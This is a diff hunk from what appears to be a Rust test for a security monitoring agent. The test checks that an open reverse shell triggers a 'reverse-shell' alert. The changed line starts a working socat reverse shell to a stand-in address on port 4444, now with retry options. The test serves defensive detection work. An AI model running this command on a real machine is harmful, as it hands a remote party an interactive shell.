@@ -174,7 +174,7 @@ fn a_reverse_shell_is_told_while_it_is_open() {
     let _shell = worker.start(&[
         "sh",
         "-c",
-        "sleep 1; exec socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
+        "sleep 1; exec socat TCP:203.0.113.9:4444,retry=40,interval=0.5 EXEC:/bin/sh",
     ]);
     let alert = agent.alert(SOON, is("reverse-shell"));
     assert_eq!(alert["status"], "open");
